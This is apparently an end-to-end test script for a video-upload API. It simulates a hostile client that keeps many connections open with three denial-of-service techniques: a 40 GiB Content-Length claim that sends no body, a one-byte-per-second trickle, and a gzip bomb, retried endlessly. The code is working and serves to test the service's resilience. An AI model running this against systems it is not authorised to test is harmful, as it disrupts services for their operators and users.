"""A user who attacks: connections that claim much and send nothing, that trickle, and gzip bombs.

`python -m tests.e2e.attack INGEST_URL COUNT` keeps COUNT connections busy until it is stopped, with the API
key that it reads from its standard input.
"""

from __future__ import annotations

import asyncio
import gzip
import itertools
import sys
from contextlib import suppress
from dataclasses import dataclass
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable

CLAIMED_BYTES = 40 << 30
BOMB = gzip.compress(bytes(64 << 20))
PAUSE_SECONDS = 1.0
FORM = b'--b\r\nContent-Disposition: form-data; name="file"; filename="film.mp4"\r\n\r\n'


@dataclass(frozen=True)
class Target:
    host: str
    port: int
    key: str

    def head(self, length: int, *headers: str) -> bytes:
        lines = (
            "POST /api/videos/upload HTTP/1.1",
            "Host: x",
            f"Authorization: Bearer {self.key}",
            "Content-Type: multipart/form-data; boundary=b",
            f"Content-Length: {length}",
            *headers,
        )
        return "\r\n".join((*lines, "\r\n")).encode()


async def claim(target: Target, writer: asyncio.StreamWriter) -> None:
    """Claim 40 GiB and send nothing."""
    writer.write(target.head(CLAIMED_BYTES) + FORM)


async def trickle(target: Target, writer: asyncio.StreamWriter) -> None:
    """Send a byte a second."""
    writer.write(target.head(1 << 20) + FORM)
    while not writer.is_closing():
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(PAUSE_SECONDS)


async def bomb(target: Target, writer: asyncio.StreamWriter) -> None:
    """Send 64 MiB in 64 KiB."""
    writer.write(target.head(len(BOMB), "Content-Encoding: gzip") + BOMB)
    await writer.drain()


async def attack(target: Target, how: Callable[[Target, asyncio.StreamWriter], Awaitable[None]]) -> None:
    """Attack again and again, whatever the answer is."""
    while True:
        with suppress(OSError):
            reader, writer = await asyncio.open_connection(target.host, target.port)
            sending = asyncio.ensure_future(how(target, writer))
            await reader.read(1000)
            sending.cancel()
            await asyncio.gather(sending, return_exceptions=True)
            writer.close()
        await asyncio.sleep(PAUSE_SECONDS)


async def main(url: str, count: int, key: str) -> None:
    address = urlsplit(url)
    target = Target(address.hostname or "", address.port or 80, key)
    ways = itertools.islice(itertools.cycle((claim, trickle, bomb)), count)
    await asyncio.gather(*(attack(target, how) for how in ways))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), sys.stdin.readline().strip()))
